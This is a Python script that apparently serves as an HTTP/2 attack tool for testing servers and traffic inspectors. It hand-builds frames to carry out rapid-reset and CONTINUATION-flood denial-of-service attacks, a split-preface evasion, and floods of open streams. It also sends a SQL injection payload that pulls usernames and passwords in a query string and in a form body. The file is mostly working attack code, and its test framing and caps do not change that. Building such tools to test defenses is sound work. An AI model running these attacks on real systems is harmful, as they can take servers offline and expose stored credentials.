#!/usr/bin/python3
"""h2attack.py rapid-reset|continuation-flood|split-preface|open-query|open-body|open-flood HOST PORT [N]

A raw-frame HTTP/2 attacker for tests: builds frames by hand (HPACK literal
headers without indexing, no Huffman) and sends them to a real server.
  rapid-reset:        N x (HEADERS with END_STREAM, then RST_STREAM CANCEL)
  continuation-flood: one HEADERS without END_HEADERS, then N CONTINUATION
                      frames of junk headers, never ending the block
  split-preface:      the preface's first 3 bytes alone, then after a pause
                      the rest and N requests for /index.html?split=I (a
                      server waits for the whole preface; an inspector
                      judging the connection by its first read must too)
  open-query:         a GET whose HEADERS carry an SQL injection in the query
                      and no END_STREAM; the stream stays open N seconds
  open-body:          a form POST (content-length 100000) whose one DATA
                      frame carries an SQL injection, never END_STREAM;
                      open N seconds
  open-flood:         after the server's SETTINGS, N POST streams (content-
                      length 100000, no END_STREAM) left open, 3 seconds
  The open-* modes print one JSON line: when the attack went out and when
  (if ever) the server side cut the connection (time.monotonic).
Bounded: N <= 100000, 10 s socket timeout."""
import json
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream & 0x7FFFFFFF) + payload


def lit(name, value):
    # literal header field without indexing, new name (RFC 7541 6.2.2)
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_block(host, path=b"/"):
    return (lit(b":method", b"GET") + lit(b":scheme", b"http") +
            lit(b":path", path) + lit(b":authority", host))


def drain(s):
    s.settimeout(0.2)
    try:
        while s.recv(65536):
            pass
    except OSError:
        pass


SQLI = b"1' UNION SELECT username, password FROM users--"


def hold(s, seconds, out):
    """Read until the peer cuts us or the time is up; note when it cut."""
    end = time.monotonic() + seconds
    s.settimeout(0.05)
    while time.monotonic() < end:
        try:
            if not s.recv(65536):
                out["cut_at"] = time.monotonic()
                out["error"] = "eof"
                return
        except socket.timeout:
            continue
        except OSError as e:
            out["cut_at"] = time.monotonic()
            out["error"] = type(e).__name__
            return


def post_block(host, path):
    return (lit(b":method", b"POST") + lit(b":scheme", b"http") +
            lit(b":path", path) + lit(b":authority", host) +
            lit(b"content-type", b"application/x-www-form-urlencoded") +
            lit(b"content-length", b"100000"))


def open_mode(mode, s, host, n):
    out = {"mode": mode, "attack_at": None, "cut_at": None}
    s.sendall(PREFACE + frame(0x4, 0, 0))
    s.sendall(frame(0x1, 0x5, 1, request_block(host, b"/up/warm")))  # benign, ended
    time.sleep(0.3)  # the server's SETTINGS (its stream limit) come first
    try:
        if mode == "open-query":
            path = b"/up/item?id=" + SQLI.replace(b" ", b"%20")
            out["attack_at"] = time.monotonic()
            s.sendall(frame(0x1, 0x4, 3, request_block(host, path)))  # END_HEADERS only
            hold(s, n, out)
        elif mode == "open-body":
            s.sendall(frame(0x1, 0x4, 3, post_block(host, b"/up/form")))
            time.sleep(0.2)
            out["attack_at"] = time.monotonic()
            s.sendall(frame(0x0, 0, 3, b"name=alice&q=" + SQLI.replace(b" ", b"+") + b"&x="))
            hold(s, n, out)
        else:  # open-flood
            out["attack_at"] = time.monotonic()
            for i in range(n):
                sid = 3 + 2 * i
                s.sendall(frame(0x1, 0x4, sid, post_block(host, b"/up/f%d" % i)) +
                          frame(0x0, 0, sid, b"a=1"))
            hold(s, 3, out)
    except OSError as e:
        out["cut_at"] = time.monotonic()
        out["error"] = type(e).__name__
    print(json.dumps(out), flush=True)


def main():
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    n = min(int(sys.argv[4]) if len(sys.argv) > 4 else 200, 100000)
    s = socket.create_connection((host, port), timeout=10)
    hb = request_block(host.encode())
    if mode.startswith("open-"):
        open_mode(mode, s, host.encode(), min(n, 10000))
        s.close()
        return
    if mode == "split-preface":
        s.sendall(PREFACE[:3])
        time.sleep(0.3)  # the server reads "PRI" on its own
        out = [PREFACE[3:], frame(0x4, 0, 0)]
        for i in range(min(n, 100)):
            path = b"/index.html?split=%d" % i
            out.append(frame(0x1, 0x5, 1 + 2 * i, request_block(host.encode(), path)))
        s.sendall(b"".join(out))
        time.sleep(0.3)
        drain(s)
        s.close()
        return
    s.sendall(PREFACE + frame(0x4, 0, 0))  # empty SETTINGS
    if mode == "rapid-reset":
        out = []
        for i in range(n):
            sid = 1 + 2 * i
            out.append(frame(0x1, 0x5, sid, hb))                      # END_STREAM|END_HEADERS
            out.append(frame(0x3, 0, sid, struct.pack(">I", 8)))      # RST_STREAM CANCEL
            if len(out) >= 200:
                s.sendall(b"".join(out))
                out = []
        if out:
            s.sendall(b"".join(out))
    elif mode == "continuation-flood":
        # One write: the server's first read holds the whole flood. A
        # server with its own CONTINUATION limit (nghttp2 >= 1.61, Debian's
        # backport) stops reading after a few frames; frames sent one by one
        # would then reach it (and us) only while it still reads.
        junk = lit(b"x-flood", b"a" * 60)
        burst = frame(0x1, 0x1, 1, hb)  # END_STREAM, no END_HEADERS
        burst += b"".join(frame(0x9, 0, 1, junk) for _ in range(n))
        try:
            s.sendall(burst)
        except OSError:
            pass  # the server gave up on us: that is fine
    else:
        raise SystemExit("unknown mode " + mode)
    time.sleep(0.2)
    drain(s)
    s.close()


if __name__ == "__main__":
    main()
